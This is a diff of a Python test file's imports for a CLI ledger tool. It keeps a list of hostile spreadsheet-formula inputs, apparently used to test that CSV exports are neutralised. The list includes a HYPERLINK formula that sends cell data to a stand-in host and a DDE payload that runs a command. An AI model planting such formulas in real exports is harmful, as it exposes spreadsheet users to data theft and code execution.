@@ -25,13 +25,12 @@ from sqlmodel import Session
 from typer.testing import CliRunner, Result
 
 from console.cli import app
-
 from model import actions
 from model.actions import FileRow, ImportSource
 from model.columns import ImportKind
 from model.db import open_ledger, sqlite_url, write_session
 from model.tables import Unit
-from tests.cli.conftest import UNIT_HEADER, UNIT_ROWS, Run, json_out, write_csv
+from tests.cli.conftest import Run, json_out
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+86 138 0000 0001", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "'=1+1"]
